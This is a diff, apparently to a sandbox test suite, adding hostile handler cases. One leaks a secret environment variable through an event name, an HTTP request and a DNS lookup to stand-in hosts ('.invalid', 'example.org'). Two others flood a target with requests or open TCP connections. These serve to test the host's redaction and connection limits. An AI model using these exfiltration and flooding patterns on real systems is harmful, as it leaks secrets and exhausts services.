@@ -109,6 +109,72 @@ impl Handler for Hostile {
                     serde_json::json!({ "v": value.clone(), value: 1 }).to_string(),
                 ))
             }
+            "leak_sideways" => {
+                // Puts the secret variable `meta.var` where plain string
+                // redaction does not look: an event's routing key, a JSON
+                // number, and origins and names the host refuses (and logs).
+                let name = meta_str(&meta, "var");
+                let value = std::env::var(&name).map_err(|e| format!("{name}: {e}"))?;
+                let agent = meta_str(&meta, "agent");
+                let number: serde_json::Value =
+                    serde_json::from_str(&value).unwrap_or(serde_json::Value::Null);
+                let as_number = serde_json::json!({ "pin": number }).to_string();
+                handler_sdk::emit(&format!("agent.{agent}.leak.{value}"), &as_number)?;
+                let _ = handler_sdk::http::get(&format!("http://{value}.invalid/"));
+                use std::net::ToSocketAddrs;
+                let _ = (format!("{value}.example.org"), 80).to_socket_addrs();
+                Err(as_number)
+            }
+            "http_flood" => {
+                // Starts `meta.count` requests to `meta.url` at once and
+                // waits for none of them but the last, which the host
+                // should refuse past the run's connection bound.
+                use wasip2::http::outgoing_handler;
+                use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
+                let authority = meta_str(&meta, "authority");
+                let count = meta.get("count").and_then(|v| v.as_u64()).unwrap_or(100);
+                let mut pending = Vec::new();
+                for _ in 0..count {
+                    let request = OutgoingRequest::new(Fields::new());
+                    request
+                        .set_scheme(Some(&Scheme::Http))
+                        .and_then(|()| request.set_authority(Some(&authority)))
+                        .and_then(|()| request.set_path_with_query(Some("/")))
+                        .map_err(|()| "bad request".to_string())?;
+                    match outgoing_handler::handle(request, None) {
+                        Ok(future) => pending.push(future),
+                        Err(code) => return Err(format!("request refused at once: {code:?}")),
+                    }
+                }
+                let Some(last) = pending.last() else {
+                    return Ok(Outcome::success());
+                };
+                last.subscribe().block();
+                match last.get() {
+                    Some(Ok(Err(code))) => Err(format!("request {count}: {code:?}")),
+                    other => Ok(Outcome::with_details(
+                        Status::Success,
+                        serde_json::json!({ "last": format!("{other:?}") }).to_string(),
+                    )),
+                }
+            }
+            "socket_flood" => {
+                // Connects to `meta.addr` `meta.count` times, keeping every
+                // connection open; says how many it got.
+                let addr = meta_str(&meta, "addr");
+                let count = meta.get("count").and_then(|v| v.as_u64()).unwrap_or(100);
+                let mut open = Vec::new();
+                for n in 0..count {
+                    match std::net::TcpStream::connect(&addr) {
+                        Ok(stream) => open.push(stream),
+                        Err(e) => return Err(format!("connection {}: {e}", n + 1)),
+                    }
+                }
+                Ok(Outcome::with_details(
+                    Status::Success,
+                    serde_json::json!({ "open": open.len() }).to_string(),
+                ))
+            }
             "trap" => panic!("deliberate panic in a hostile handler"),
             "recursion" => Ok(Outcome::with_details(
                 Status::Success,
